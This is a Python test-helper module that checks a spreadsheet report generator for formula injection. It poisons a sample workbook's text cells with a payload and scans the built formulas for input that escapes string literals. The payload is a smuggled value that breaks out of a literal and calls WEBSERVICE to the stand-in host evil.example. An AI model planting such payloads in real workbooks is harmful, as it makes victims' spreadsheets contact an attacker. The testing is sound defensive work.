"""Test helpers: scan every formula of built files for input text outside string literals, and
poison the text cells of a sample workbook with a payload that would be formula code if pasted."""

from __future__ import annotations

import re
import shutil
from pathlib import Path

from openpyxl import load_workbook
from openpyxl.formula.tokenizer import Token, Tokenizer

MARK = "XLMARK"
# Ends a string literal, calls functions, and starts another: code if pasted into a formula.
PAYLOAD = f'"&WEBSERVICE("http://evil.example/?{MARK}")&"HYPERLINK({MARK})'
# Short enough to stay a unit of an indicator value (≥90%"&PI()&"), which formulas read back.
SHORT_PAYLOAD, SHORT_MARK = '"&PI()&"', "PI("
# Functions the program itself writes into formulas (xlreports/notation.py, formula_literals.py).
PROGRAM_FUNCTIONS = {"IF", "VALUE", "SUBSTITUTE", "CHAR"}
_FUNCTION = re.compile(r"([A-Z][A-Z0-9.]*)\(")


def template_functions(templates: Path) -> set[str]:
    """Every function name written in a template's formulas (``=…`` cells and ``&=…`` cells)."""
    names = set(PROGRAM_FUNCTIONS)
    for path in templates.glob("*.xlsx"):
        book = load_workbook(path)
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value.startswith(("=", "&=")):
                        names.update(_FUNCTION.findall(cell.value))
    return names


def formulas(path: Path) -> list[tuple[str, str]]:
    """(sheet!cell, formula) of every formula cell of ``path``."""
    book = load_workbook(path)
    found = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" and isinstance(cell.value, str):
                    found.append((f"{path.name}!{ws.title}!{cell.coordinate}", cell.value))
    return found


def violations(formula: str, allowed: set[str], mark: str = MARK) -> list[str]:
    """What in ``formula`` is not code from a template: the mark outside a string literal, a
    function the templates do not use."""
    problems = []
    for token in Tokenizer(formula).items:
        if token.type == Token.OPERAND and token.subtype == Token.TEXT:
            continue
        if mark in token.value:
            problems.append(f"input text outside a string literal: {token.value!r}")
        if token.type == Token.FUNC and token.subtype == Token.OPEN and token.value[:-1].upper() not in allowed:
            problems.append(f"function not in any template: {token.value!r}")
    return problems


def scan(paths: list[Path], allowed: set[str], mark: str = MARK) -> tuple[int, list[str], int]:
    """(number of formulas, violations, string literals holding ``mark``) over every formula of
    every file."""
    count, problems, reached = 0, [], 0
    for path in paths:
        for where, formula in formulas(path):
            count += 1
            problems.extend(f"{where} {formula[:200]}: {p}" for p in violations(formula, allowed, mark))
            reached += sum(1 for t in Tokenizer(formula).items if t.subtype == Token.TEXT and mark in t.value)
    return count, problems, reached


def contract_names() -> tuple[str, ...]:
    """Every sheet, column and field name of the input contract (header cells are not poisoned)."""
    from xlreports import contract

    names: set[str] = set()

    def walk(value, depth=0):
        if depth > 5:
            return
        if isinstance(value, str):
            names.add(value)
        elif isinstance(value, dict):
            for key, item in value.items():
                walk(key, depth + 1)
                walk(item, depth + 1)
        elif isinstance(value, list | tuple | set | frozenset):
            for item in value:
                walk(item, depth + 1)
        elif hasattr(value, "__dataclass_fields__") and not isinstance(value, type):
            for name in value.__dataclass_fields__:
                walk(getattr(value, name), depth + 1)

    for name, value in vars(contract).items():
        if not name.startswith("_"):
            walk(value)
    return tuple(n for n in names if len(n) >= 2)


def poisoned_copy(source: Path, target: Path, build_check, payload: str = PAYLOAD) -> tuple[Path, int]:
    """``source`` with ``payload`` appended to every text cell that is not a header or field name
    and that the workbook still accepts: cells whose payload makes the check fail are set back,
    until it passes.

    ``build_check(path)`` returns the (sheet, cell) of every error.  Returns the copy and the
    number of cells that keep the payload.
    """
    shutil.copy(source, target)
    book = load_workbook(target)
    poisoned = {}
    headers = contract_names()
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.strip() and not cell.value.strip().startswith(headers):
                    poisoned[(ws.title, cell.coordinate)] = cell.value
                    cell.value = cell.value + payload
    book.save(target)
    for _ in range(8):
        errors = build_check(target)
        if not errors:
            return target, len(poisoned)
        reverted = {place for place in errors if place in poisoned}
        if not reverted:
            raise AssertionError(f"errors not on a poisoned cell: {errors}")
        book = load_workbook(target)
        for sheet, coordinate in reverted:
            book[sheet][coordinate] = poisoned.pop((sheet, coordinate))
        book.save(target)
    raise AssertionError("the poisoned workbook still fails after setting cells back")
